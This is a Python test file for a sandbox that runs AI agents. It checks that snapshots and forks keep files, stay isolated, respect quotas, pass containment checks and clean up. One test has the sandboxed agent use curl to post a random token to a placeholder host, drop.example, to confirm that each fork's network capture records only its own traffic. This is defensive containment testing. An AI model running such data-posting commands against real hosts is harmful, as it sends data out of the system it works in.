"""Snapshots and forks: what goes along, what does not, and that a fork is a cell like any other."""

from __future__ import annotations

import contextlib
import secrets
from collections.abc import Awaitable, Callable
from typing import TypeVar

import anyio
import docker
import psutil
import pytest
from inspect_ai.util import SandboxEnvironment

from sandbox import cell, state
from sandbox.box import plan
from sandbox.cell import Provider
from sandbox.certificate.cells import fresh_cell
from sandbox.certify import certify
from sandbox.snapshot import SnapshotError, fork, snapshot

T = TypeVar("T")
Work = Callable[[SandboxEnvironment], Awaitable[T]]
PROVIDERS = [
    pytest.param("namespace", marks=pytest.mark.namespace),
    pytest.param("docker", marks=pytest.mark.docker),
]
pytestmark = pytest.mark.parametrize("provider", PROVIDERS)


async def sh(agent: SandboxEnvironment, script: str) -> str:
    done = await agent.exec(["bash", "-c", script])
    assert done.success, done.stderr
    return done.stdout


def in_box(provider: Provider, work: Work[T]) -> T:
    async def main() -> T:
        async with fresh_cell(provider) as (agent, _):
            return await work(agent)

    return anyio.run(main)


BEFORE = """
cd /home/agent
printf one > kept; printf two > gone; ln -s kept link; ln kept hard; mkfifo pipe
mkdir -p folder/deep; printf three > folder/deep/file; printf x > 'odd
name'; printf '\\377' > $'byte\\377'
printf secret > closed; touch -d '2001-02-03 04:05:06.123456789' closed; chmod 0 closed
printf run > script; chmod 750 script; mkdir locked; printf y > locked/in; chmod 0500 locked
truncate -s 10M sparse; touch -d '2003-03-03' folder
printf srv > /srv/file; printf tmp > /tmp/file; printf vartmp > /var/tmp/file; chmod 700 /srv
"""
# An overlay counts a folder's links in its own way.
SEEN = """
for folder in /home/agent /srv /tmp /var/tmp; do
  find "$folder" -printf '%p %y %m %T@ %l ' \\( -type d -o -printf '%n %s' \\) -printf '\\n' \
    | LC_ALL=C sort
  find "$folder" -type f -readable -print0 | LC_ALL=C sort -z | xargs -0 -r sha256sum
done
"""


def test_a_fork_holds_what_the_box_held(provider: Provider) -> None:
    async def work(agent: SandboxEnvironment) -> tuple[str, str, str]:
        await sh(agent, BEFORE)
        before = await sh(agent, SEEN)
        taken = await snapshot(agent)
        async with fork(taken) as (child, _):
            return before, await sh(child, SEEN), await sh(agent, SEEN)

    before, forked, after = in_box(provider, work)
    assert "closed f 0 981173106.1234567890  1 6" in before
    assert forked == before
    assert after == before, "the original is unharmed"


def test_each_goes_its_own_way(provider: Provider) -> None:
    async def work(agent: SandboxEnvironment) -> list[str]:
        await sh(agent, "printf old > a; printf old > b")
        taken = await snapshot(agent)
        async with fork(taken) as (first, _), fork(taken) as (second, _):
            await sh(first, "printf first > a; touch only-first /tmp/only-first")
            await sh(second, "rm a; printf second > b")
            await sh(agent, "printf on > b; touch only-original")
            return [await sh(x, "ls -x -w 0; cat a b 2>&1 || true") for x in (agent, first, second)]

    original, first, second = in_box(provider, work)
    assert original == "a  b  only-original\noldon"
    assert first == "a  b  only-first\nfirstold"
    assert second == "b\ncat: a: No such file or directory\nsecond"


def test_what_a_fork_removed_stays_removed_in_forks_of_it(provider: Provider) -> None:
    async def work(agent: SandboxEnvironment) -> list[str]:
        await sh(agent, "mkdir -p d/sub e; touch d/1 d/sub/2 e/3 f; printf kept > g; chmod 0 g")
        seen = []
        async with fork(await snapshot(agent)) as (child, _):
            await sh(child, "rm -r d f; mkdir d; touch d/new; mv e moved; chmod 600 g")
            second = await snapshot(child)
            await sh(child, "touch after")
        # The fork it was taken of is gone by now.
        async with fork(second) as (grandchild, _):
            await sh(grandchild, "rm d/new; printf more >> g")
            async with fork(await snapshot(grandchild)) as (last, _):
                for box in (agent, grandchild, last):
                    seen.append(await sh(box, "find . -mindepth 1 ! -name '.*' | sort | xargs"))
                seen.append(await sh(last, "cat g; stat -c %a g"))
        return seen

    assert in_box(provider, work) == [
        "./d ./d/1 ./d/sub ./d/sub/2 ./e ./e/3 ./f ./g\n",
        "./d ./g ./moved ./moved/3\n",
        "./d ./g ./moved ./moved/3\n",
        "keptmore600\n",
    ]


# Two folders are written in turn, with enough in the first for its copy to take a while.
TICKING = """
head -c 200M /dev/urandom > filler; cat > tick.py <<'EOF'
import os
counts = [os.open(p, os.O_CREAT | os.O_WRONLY) for p in ("count", "/var/tmp/count")]
for number in range(10**9):
    for count in counts:
        os.pwrite(count, b"%9d" % number, 0)
EOF
python3 tick.py >/dev/null 2>&1 & until [ -s /var/tmp/count ]; do sleep .01; done
"""


def test_a_snapshot_is_of_one_moment_and_processes_stay_behind(provider: Provider) -> None:
    async def work(agent: SandboxEnvironment) -> tuple[list[str], str]:
        await sh(agent, TICKING)
        taken = await snapshot(agent)
        now = int(await sh(agent, "cat count; sleep .1"))
        async with fork(taken) as (child, _):
            counts = (await sh(child, "cat count /var/tmp/count")).split()
            alive = await sh(child, "pgrep -fc '[t]ick.py' || true")
        await sh(agent, f"[ $(cat count) -gt {now} ]")  # the original goes on
        return counts, alive

    counts, alive = in_box(provider, work)
    numbers = [int(count) for count in counts]
    assert max(numbers) - min(numbers) <= 1
    assert alive == "0\n"


def test_a_fork_is_as_sealed_as_a_box(provider: Provider) -> None:
    async def work(agent: SandboxEnvironment) -> list[str]:
        await sh(agent, "touch here")
        async with fork(await snapshot(agent)) as (child, gateway):
            certificate = await certify(child, gateway, neighbour=agent)
            await sh(child, "ls here")
            return [f"{probe.name}: {probe.detail}" for probe in certificate.failed]

    assert in_box(provider, work) == []


def test_a_fork_has_a_capture_of_its_own(provider: Provider) -> None:
    mark = secrets.token_hex(12)

    async def work(agent: SandboxEnvironment) -> tuple[bytes, bytes]:
        async with (
            fork(await snapshot(agent)) as (first, gate),
            fork(await snapshot(agent)) as (
                _,
                other,
            ),
        ):
            await sh(first, f"curl -s --max-time 10 -d {mark} http://drop.example/ >/dev/null")
            return (await cell.sealed_files(gate))[1], (await cell.sealed_files(other))[1]

    its_own, other = in_box(provider, work)
    assert mark.encode() in its_own
    assert mark.encode() not in other


def test_a_quota_still_holds_in_a_fork(provider: Provider) -> None:
    if provider == "docker":
        pytest.skip("the engine's volumes have no quota: docs/containment.md")

    async def work(agent: SandboxEnvironment) -> str:
        await sh(agent, "head -c 300M /dev/zero > big")
        async with fork(await snapshot(agent)) as (child, _):
            fill = "head -c 500M /dev/zero > /home/agent/1; head -c 100M /dev/zero > /home/agent/2"
            return await sh(child, f"({fill}) 2>&1; stat -c %s big; du -sm --apparent-size .")

    said = in_box(provider, work)
    assert "No space left on device" in said
    assert int(said.split()[-2]) <= 300 + 512 + 1


def test_without_overlays_a_fork_is_a_copy(
    provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    if provider == "docker":
        pytest.skip("it is one always")
    monkeypatch.setattr(plan, "_OVERLAY", "no-such-file-system")

    async def work(agent: SandboxEnvironment) -> tuple[str, ...]:
        await sh(agent, BEFORE)
        before = await sh(agent, SEEN)
        async with fork(await snapshot(agent)) as (child, _):
            forked = await sh(child, SEEN)
            await sh(child, "rm -r folder gone; printf more > new")
            async with fork(await snapshot(child)) as (last, _):
                kinds = await sh(last, "grep -c overlay /proc/mounts || true")
                return before, forked, kinds, await sh(last, "ls -x -w 0")

    before, forked, kinds, last = in_box(provider, work)
    assert forked == before
    assert kinds == "0\n"
    assert "new" in last and "folder" not in last and "gone" not in last


def test_nothing_is_left_when_a_snapshot_is_let_go(provider: Provider) -> None:
    def left() -> set[str]:
        if provider == "docker":
            client = docker.from_env()
            label = {"label": f"{cell.HARNESS_LABEL}={state.harness_id()}"}
            found = {str(v.name) for v in client.volumes.list(filters=label)}
            client.close()
            return found
        return {str(keeper.pid) for keeper in _keepers()}

    async def work(agent: SandboxEnvironment) -> None:
        taken = await snapshot(agent)
        async with fork(taken):
            assert left()

    in_box(provider, work)
    with anyio.from_thread.start_blocking_portal() as portal:
        for _ in range(100):
            if not left():
                break
            portal.call(anyio.sleep, 0.05)
    assert left() == set()


def _keepers() -> list[psutil.Process]:
    """The processes that hold layers; they are nobody's children."""
    found = []
    for process in psutil.Process(1).children():
        with contextlib.suppress(psutil.Error):  # it ends just now
            if any("box/launch.py" in word for word in process.cmdline()):
                found.append(process)
    return found


def test_a_box_that_is_gone_is_an_error(provider: Provider) -> None:
    async def main() -> None:
        async with fresh_cell(provider) as (agent, _):
            pass
        with pytest.raises(SnapshotError, match="box|container"):
            await snapshot(agent)

    anyio.run(main)
